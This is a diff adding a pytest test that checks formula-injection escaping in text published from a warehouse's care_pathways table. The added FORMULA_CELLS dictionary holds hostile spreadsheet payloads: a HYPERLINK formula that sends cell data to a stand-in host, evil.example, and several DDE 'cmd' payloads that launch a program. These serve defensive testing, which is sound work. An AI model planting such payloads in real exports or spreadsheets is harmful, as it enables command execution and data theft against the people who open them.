@@ -164,3 +164,33 @@ def test_the_published_file_opens_in_the_duckdb_1x_shell_bi_tools_use(warehouse_
                          capture_output=True, text=True, timeout=60)
     assert out.returncode == 0, out.stderr
     assert out.stdout.strip().splitlines() == ["n", "1"]
+
+
+FORMULA_CELLS = {
+    "=": '=HYPERLINK("http://evil.example/?d="&A1,"open")',
+    "+": "+cmd|' /C calc'!A0",
+    "-": "-2+3+cmd|' /C calc'!A0",
+    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t": "\t=1+1",
+    "\r": "\r=1+1",
+}
+
+
+@pytest.mark.parametrize("trigger", list(FORMULA_CELLS))
+def test_formula_injection_in_published_text_is_escaped(warehouse_with_marts, trigger):
+    settings = warehouse_with_marts
+    hostile = FORMULA_CELLS[trigger]
+    with writer(settings) as con:
+        con.execute("INSERT INTO marts.care_pathways SELECT * REPLACE (? AS current_phase) FROM marts.care_pathways",
+                    [hostile])
+        con.execute("INSERT INTO marts.care_pathways SELECT * REPLACE (? AS current_phase) FROM marts.care_pathways "
+                    "LIMIT 1", ["clinic=01+@"])                          # a trigger inside: unchanged
+    publish(settings, run_id="run-formula")
+    con = duckdb.connect(str(settings.analytics), read_only=True)
+    try:
+        values = {r[0] for r in con.execute("SELECT current_phase FROM care_pathways").fetchall()}
+    finally:
+        con.close()
+    assert "'" + hostile in values and hostile not in values
+    assert "clinic=01+@" in values
+    assert not [v for v in values if v and v[0] in "=+-@\t\r"]
